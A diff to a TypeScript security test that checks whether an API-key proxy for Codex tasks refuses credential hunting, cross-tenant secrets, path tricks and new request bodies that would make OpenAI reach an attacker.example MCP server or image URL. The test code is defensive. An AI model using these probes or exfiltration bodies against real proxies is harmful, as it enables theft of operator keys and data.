@@ -5,7 +5,9 @@
 // hunts the key in its environment, in every /proc it can see and in every file outside the
 // read-only system, tries the proxy for more than inference (model list, files, batches, admin
 // keys, a stored response, a path trick), without a secret, with a wrong one, and with tenant
-// B's finished one. Only Codex's own POST /v1/responses may reach "OpenAI", each with the key.
+// B's finished one, and with its own secret sends bodies that would make OpenAI reach the
+// network for it (an MCP server, live web search, code interpreter, a stored prompt, an image
+// at a URL): each 400. Only Codex's own POST /v1/responses may reach "OpenAI", each with the key.
 import { randomUUID } from "node:crypto";
 import { existsSync, readFileSync } from "node:fs";
 import { createServer, request as httpRequest } from "node:http";
@@ -74,14 +76,17 @@ async function codexTask(ctx: GauntletContext, user: BenchUser, message: string)
 const PROBES = String.raw`
 const [probes] = process.argv.slice(2).map((a) => JSON.parse(Buffer.from(a, "base64").toString()));
 (async () => {
-  for (const [label, method, path, secret] of probes) {
+  for (const [label, method, path, secret, body] of probes) {
     const bearer = secret === "mine" ? process.env.${SECRET_VARIABLE} : secret;
     const line = await fetch("http://127.0.0.1:8377" + path, {
       method,
       headers: { authorization: "Bearer " + bearer, "content-type": "application/json" },
-      ...(method === "GET" ? {} : { body: "{}" }),
+      ...(method === "GET" ? {} : { body: JSON.stringify(body ?? {}) }),
       signal: AbortSignal.timeout(5000),
-    }).then((r) => r.status, (e) => "error " + (e.cause?.code ?? e.message));
+    }).then(
+      async (r) => r.status === 400 ? "400 " + ((await r.json().catch(() => ({}))).error?.code ?? "?") : r.status,
+      (e) => "error " + (e.cause?.code ?? e.message),
+    );
     console.log(label + " " + line);
   }
 })();
@@ -95,6 +100,42 @@ const BEYOND_INFERENCE: [string, string, string][] = [
   ["STORED_RESPONSE", "GET", "/v1/responses/resp_1"],
   ["PATH_TRICK", "POST", "/v1/responses/../files"],
   ["CHAT", "POST", "/v1/chat/completions"],
+];
+
+/** Bodies that would make OpenAI reach the network (or the operator's stored objects). */
+// A turn the fake Responses API would answer 200: only the proxy may refuse it.
+const turn = {
+  model: "fake-model",
+  input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "hi" }] }],
+  stream: true,
+};
+const REACHING_BODIES: [string, Record<string, unknown>][] = [
+  [
+    "MCP_SERVER",
+    {
+      ...turn,
+      tools: [{ type: "mcp", server_label: "x", server_url: "https://attacker.example/mcp" }],
+    },
+  ],
+  ["LIVE_WEB_SEARCH", { ...turn, tools: [{ type: "web_search", external_web_access: true }] }],
+  [
+    "CODE_INTERPRETER",
+    { ...turn, tools: [{ type: "code_interpreter", container: { type: "auto" } }] },
+  ],
+  ["STORED_PROMPT", { ...turn, prompt: { id: "pmpt_operator" } }],
+  [
+    "URL_IMAGE",
+    {
+      ...turn,
+      input: [
+        {
+          type: "message",
+          role: "user",
+          content: [{ type: "input_image", image_url: "https://attacker.example/?d=1" }],
+        },
+      ],
+    },
+  ],
 ];
 
 const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64");
@@ -140,6 +181,7 @@ export const codexCloudKey: Scenario = {
         ["WRONG_SECRET", "POST", "/v1/responses", "0".repeat(64)],
         ["OTHER_TASK_SECRET", "POST", "/v1/responses", bobSecret.trim()],
         ...BEYOND_INFERENCE.map(([label, method, path]) => [label, method, path, "mine"]),
+        ...REACHING_BODIES.map(([label, body]) => [label, "POST", "/v1/responses", "mine", body]),
       ])};`,
       "} > /workspace/hunt.txt 2>&1; echo hunted",
     ].join(" ");
@@ -165,6 +207,9 @@ export const codexCloudKey: Scenario = {
       if (line(label) !== "403") problems.push(`${label}: ${line(label) || "no answer"}`);
     for (const [label] of BEYOND_INFERENCE)
       if (line(label) !== "404") problems.push(`${label}: ${line(label) || "no answer"}`);
+    for (const [label] of REACHING_BODIES)
+      if (line(label) !== "400 request_refused")
+        problems.push(`${label}: ${line(label) || "no answer"}`);
     const mallorys = openai.seen.slice(before);
     const extra = mallorys.filter((r) => r.line !== "POST /v1/responses");
     if (extra.length > 0)
@@ -178,6 +223,6 @@ export const codexCloudKey: Scenario = {
       problems.length === 0,
       `${problems.join("; ")} (the hunt's last lines: ${seen.slice(-600)})`,
     );
-    return `env and /proc of ${processes} processes (Codex's own included) and every file outside the read-only system hunted: the OpenAI key found 0 times; POST /v1/responses without a secret, with a wrong one and with tenant b's finished one: 403; ${BEYOND_INFERENCE.map(([, m, p]) => `${m} ${p}`).join(", ")} with its own secret: 404; "OpenAI" saw ${openai.seen.length} requests, all POST /v1/responses with the operator's key added by the proxy`;
+    return `env and /proc of ${processes} processes (Codex's own included) and every file outside the read-only system hunted: the OpenAI key found 0 times; POST /v1/responses without a secret, with a wrong one and with tenant b's finished one: 403; ${BEYOND_INFERENCE.map(([, m, p]) => `${m} ${p}`).join(", ")} with its own secret: 404; ${REACHING_BODIES.map(([label]) => label).join(", ")} bodies with its own secret: 400 request_refused; "OpenAI" saw ${openai.seen.length} requests, all POST /v1/responses with the operator's key added by the proxy`;
   },
 };
